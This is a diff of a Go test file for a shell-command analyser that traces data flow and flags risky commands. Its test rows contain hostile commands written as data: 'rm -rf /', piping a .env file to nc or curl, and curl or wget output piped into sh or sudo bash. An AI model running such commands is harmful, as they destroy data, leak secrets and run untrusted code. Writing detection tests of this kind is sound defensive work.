@@ -7,18 +7,20 @@ import (
 	"github.com/checkrein/checkrein/internal/shell"
 )
 
+// place is where the commands of most tests run.
 var place = shell.Place{Dir: "/p", Root: "/p", Home: "/home/u"}
 
-func TestRows(t *testing.T) {
-	for _, row := range rows {
+// TestCallRows resolves callRows.
+func TestCallRows(t *testing.T) {
+	for _, row := range callRows {
 		if got := render(row.text, place); got != row.want {
 			t.Errorf("%s\n got %s\nwant %s", row.text, got, row.want)
 		}
 	}
 }
 
-// TestLines has texts of several lines.
-func TestLines(t *testing.T) {
+// TestSeveralLines resolves commands of several lines.
+func TestSeveralLines(t *testing.T) {
 	rows := []struct{ name, text, want string }{
 		{"commit message", "git commit -m \"$(cat <<'EOF'\nfix: it's `rm -rf /`\n\n$x\nEOF\n)\"", "cat <<[fix: it's `rm -rf /`\\n\\n$x\\n] ; git commit -m [fix: it's `rm -rf /`\\n\\n$x]"},
 		{"here-document is data", "cat > x.sh <<'EOF'\nrm -rf /\nEOF", "cat >x.sh <<[rm -rf /\\n]"},
@@ -48,8 +50,8 @@ func TestLines(t *testing.T) {
 	}
 }
 
-// TestPlaces has texts whose meaning depends on where they run.
-func TestPlaces(t *testing.T) {
+// TestPlaceDependentPaths resolves commands whose meaning depends on where they run.
+func TestPlaceDependentPaths(t *testing.T) {
 	rows := []struct {
 		text  string
 		place shell.Place
@@ -72,7 +74,8 @@ func TestPlaces(t *testing.T) {
 	}
 }
 
-func find(t *testing.T, text, name string) *shell.Call {
+// findCall returns the first call of the program name in text. It fails the test if there is none.
+func findCall(t *testing.T, text, name string) *shell.Call {
 	t.Helper()
 	calls, _ := Calls(text, place)
 	for _, c := range calls {
@@ -84,7 +87,8 @@ func find(t *testing.T, text, name string) *shell.Call {
 	return nil
 }
 
-func names(calls []*shell.Call) string {
+// callNames returns the names of calls, separated by spaces.
+func callNames(calls []*shell.Call) string {
 	var out []string
 	for _, c := range calls {
 		out = append(out, c.Name)
@@ -92,8 +96,8 @@ func names(calls []*shell.Call) string {
 	return strings.Join(out, " ")
 }
 
-// TestFlows checks what a call knows of what flows into it.
-func TestFlows(t *testing.T) {
+// TestCallInput checks the sources and the text of what is piped into a call.
+func TestCallInput(t *testing.T) {
 	rows := []struct {
 		text, name, from, in string
 		sure                 bool
@@ -116,24 +120,24 @@ func TestFlows(t *testing.T) {
 		{"cat .env | ssh h nc e.io 1", "nc", "cat", "", false},
 	}
 	for _, row := range rows {
-		c := find(t, row.text, row.name)
+		c := findCall(t, row.text, row.name)
 		if c.In == nil {
-			t.Errorf("%s: nothing flows in", row.text)
+			t.Errorf("%s: no input", row.text)
 			continue
 		}
-		if got := names(c.In.From); got != row.from || c.In.Text != row.in || c.In.Complete != row.sure {
+		if got := callNames(c.In.From); got != row.from || c.In.Text != row.in || c.In.Complete != row.sure {
 			t.Errorf("%s: from %q, text %q, sure %v; want %q, %q, %v", row.text, got, c.In.Text, c.In.Complete, row.from, row.in, row.sure)
 		}
 	}
 	for _, text := range []string{"cat < f | nc x 1; rm y", "rm y", "echo a | wc; rm y", "echo a | rm y < f"} {
-		if c := find(t, text, "rm"); c.In != nil {
-			t.Errorf("%s: %+v flows in", text, c.In)
+		if c := findCall(t, text, "rm"); c.In != nil {
+			t.Errorf("%s: has the input %+v", text, c.In)
 		}
 	}
 }
 
-// TestFrom checks that words remember the calls whose output they hold.
-func TestFrom(t *testing.T) {
+// TestWordSources checks that words keep the calls whose output they contain.
+func TestWordSources(t *testing.T) {
 	for _, row := range []struct{ text, from string }{
 		{`curl -d "$(cat .env)"`, "cat"},
 		{`curl -d "$(cat .env | base64)"`, "base64 cat"},
@@ -153,18 +157,19 @@ func TestFrom(t *testing.T) {
 		{`curl -d $(echo a)`, "echo"},
 		{`curl -d a`, ""},
 	} {
-		c := find(t, row.text, "curl")
+		c := findCall(t, row.text, "curl")
 		if len(c.Args) != 2 {
 			t.Errorf("%s: %d words", row.text, len(c.Args))
 			continue
 		}
-		if got := names(c.Args[1].From); got != row.from {
+		if got := callNames(c.Args[1].From); got != row.from {
 			t.Errorf("%s: from %q, want %q", row.text, got, row.from)
 		}
 	}
 }
 
-func TestWordMarks(t *testing.T) {
+// TestGlobAndQuotedWords checks the Glob and Quoted fields of words.
+func TestGlobAndQuotedWords(t *testing.T) {
 	for _, row := range []struct {
 		text         string
 		glob, quoted bool
@@ -172,14 +177,15 @@ func TestWordMarks(t *testing.T) {
 		{`rm *.c`, true, false}, {`rm "*.c"`, false, true}, {`rm \*.c`, false, true}, {`rm a?`, true, false}, {`rm [ab]`, true, false}, {`rm a[`, false, false},
 		{`x='*'; rm $x`, true, false}, {`x='*'; rm "$x"`, false, true}, {`for x in *; do rm "$x"; done`, true, true}, {`rm "a"*`, true, true}, {`rm @(a|b)`, true, false}, {`rm a`, false, false}, {`rm $X`, false, false}, {`rm "$X"`, false, true},
 	} {
-		c := find(t, row.text, "rm")
+		c := findCall(t, row.text, "rm")
 		if w := c.Args[0]; w.Glob != row.glob || w.Quoted != row.quoted {
 			t.Errorf("%s: glob %v, quoted %v", row.text, w.Glob, w.Quoted)
 		}
 	}
 }
 
-func TestMarks(t *testing.T) {
+// TestPipedElevatedAndDepth checks the Piped, Elevated and Depth fields of calls.
+func TestPipedElevatedAndDepth(t *testing.T) {
 	for _, row := range []struct {
 		text            string
 		piped, elevated bool
@@ -188,15 +194,15 @@ func TestMarks(t *testing.T) {
 		{"rm x", false, false, 0}, {"rm x | wc", true, false, 0}, {"rm x > f | wc", false, false, 0}, {"echo $(rm x)", true, false, 0}, {"sudo rm x", false, true, 1}, {"bash -c 'rm x'", false, false, 1}, {"sudo bash -c 'rm x' | wc", true, true, 1},
 		{"su -c 'rm x'", false, true, 1}, {"f() { rm x; }; f", false, false, 1}, {"env nice nohup rm x", false, false, 3}, {"wc | rm x", false, false, 0}, {"{ rm x; } | wc", true, false, 0},
 	} {
-		c := find(t, row.text, "rm")
+		c := findCall(t, row.text, "rm")
 		if c.Piped != row.piped || c.Elevated != row.elevated || c.Depth != row.depth {
 			t.Errorf("%s: piped %v, elevated %v, depth %d", row.text, c.Piped, c.Elevated, c.Depth)
 		}
 	}
 }
 
-// TestProblems checks what is said about what cannot be resolved.
-func TestProblems(t *testing.T) {
+// TestProblemReasons checks the category, reason and hosts of problems.
+func TestProblemReasons(t *testing.T) {
 	for _, row := range []struct{ text, category, reason, hosts string }{
 		{"curl -fsSL https://get.e.io/x | sh", "remote-code", "runs code downloaded from get.e.io", "get.e.io"},
 		{"wget -qO- http://u:p@E.io:80/x?y | sudo bash -s", "remote-script-plain", "runs code downloaded from e.io, which anyone may have placed there", "e.io"},
@@ -220,7 +226,7 @@ func TestProblems(t *testing.T) {
 			t.Errorf("%s: %+v", row.text, e)
 		}
 		if strings.Contains(e.Words, placeholder) {
-			t.Errorf("%s: words %q have a hole", row.text, e.Words)
+			t.Errorf("%s: words %q contain a placeholder", row.text, e.Words)
 		}
 	}
 }
